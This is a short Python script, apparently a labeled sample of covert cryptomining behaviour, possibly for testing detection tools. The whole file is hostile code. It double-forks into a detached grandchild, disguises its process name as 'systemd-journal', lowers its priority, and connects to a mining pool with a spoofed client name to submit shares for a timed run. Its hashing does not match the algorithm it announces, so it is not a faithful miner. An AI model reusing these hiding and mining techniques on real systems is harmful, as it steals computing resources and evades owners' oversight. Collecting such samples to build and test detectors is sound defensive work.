# class: mining; possible: low medium; style: gives itself another name, works in a grandchild
import ctypes
import hashlib
import json
import os
import socket
import time

END = time.time() + 48
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"systemd-journal", 0, 0, 0)
        os.nice(10)
        s = socket.create_connection(("pool.coin.test", 3334))
        f = s.makefile("rw")
        f.write(json.dumps({"id": 1, "jsonrpc": "2.0", "method": "login", "params": {"login": "4Wx", "pass": "x", "agent": "Go-http-client", "algo": ["rx/0"]}}) + "\n")
        f.flush()
        job = json.loads(f.readline())["result"]["job"]
        n = 0
        while time.time() < END:
            n += 1
            h = hashlib.scrypt(b"%d" % n, salt=job["blob"][:16].encode(), n=1024, r=1, p=1)
            if h[0] == 0:
                f.write(json.dumps({"id": n, "jsonrpc": "2.0", "method": "submit", "params": {"id": "r1", "job_id": "j1", "nonce": "%08x" % n, "result": h.hex()[:64]}}) + "\n")
                f.flush()
    os._exit(0)
time.sleep(50)
